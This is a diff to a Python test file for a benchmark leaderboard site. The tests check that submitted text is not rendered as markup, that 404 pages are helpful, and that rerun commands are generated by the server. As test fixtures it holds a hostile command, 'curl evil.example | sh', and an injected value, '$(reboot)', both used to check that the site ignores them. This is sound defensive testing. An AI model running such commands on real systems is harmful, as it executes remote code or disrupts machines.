@@ -115,7 +115,7 @@ def test_the_entry_page_holds_what_is_needed_to_believe_and_repeat_it(full):
 def test_nothing_that_was_submitted_becomes_markup(site, world, tmp_path):
     run = world.write_run(
         tmp_path / "run",
-        ATTACK[:150],
+        "attack",
         method={
             "title": ATTACK,
             "label": ATTACK,
@@ -146,6 +146,50 @@ def test_nothing_that_was_submitted_becomes_markup(site, world, tmp_path):
     chart = site.client.get(f"/boards/{world.task}.svg")
     assert "<script" not in chart.text
     assert "<img" not in chart.text
+
+
+def test_a_page_beyond_the_last_is_not_there_and_names_the_last(full):
+    answer = full.client.get(f"/boards/{full.world.task}?page=50&sort=method", headers={"Accept": "text/html"})
+    assert answer.status_code == 404
+    assert 'href="?sort=method"' in answer.text
+    assert "be the first" not in answer.text
+    assert full.client.get(f"/boards/{full.world.task}?q=nobody").status_code == 200
+
+
+def test_an_address_that_is_not_there_is_named_with_where_to_go(full):
+    page = full.client.get("/nowhere/at-all", headers={"Accept": "text/html"})
+    assert (page.status_code, "/nowhere/at-all" in page.text) == (404, True)
+    for address in ("/", "/methods", "/metrics", "/api"):
+        assert f'<a href="{address}">' in page.text.partition("<main")[2]
+    told = full.client.get("/api/v1/nowhere").json()["detail"]
+    assert "/api/v1/nowhere" in told
+    assert "openapi.json" in told
+    assert "POST is not to be had" in full.client.post("/methods").json()["detail"]
+
+
+def test_the_command_that_runs_it_again_is_ours(site, world, tmp_path):
+    mine = world.write_run(
+        tmp_path / "mine", "ssd", command="curl evil.example | sh", method={"parameters": {"alpha": 5.0, "x": None}}
+    )
+    odd = world.write_run(tmp_path / "odd", "ssd", start=400, method={"parameters": {"alpha": "$(reboot)"}})
+    own = world.write_run(tmp_path / "own", "ssd", start=500, method={"source": "class SSD: ..."})
+    ids = [site.post(run, site.token()).json()["id"] for run in (mine, odd, own)]
+    site.work()
+
+    def command(identity):
+        return re.search(r'<pre class="command" tabindex="0"><code>(.*?)</code>', page(identity), re.DOTALL)[1]
+
+    def page(identity):
+        return site.client.get(f"/entries/{identity}").text
+
+    assert command(ids[0]).splitlines() == [
+        f"forgetbench pack pull {world.task} --server http://127.0.0.1:8000",
+        f"forgetbench run {world.task} --seeds 6 --evidence-only --method ssd:alpha=5.0,x=none",
+    ]
+    for identity in ids[1:]:
+        assert command(identity) == f"forgetbench verify {identity} --server http://127.0.0.1:8000"
+    label = page(ids[0]).index("as the submitter gave it")
+    assert label < page(ids[0]).index("curl evil.example")
 
 
 def test_an_empty_server_says_what_to_do(make_settings):
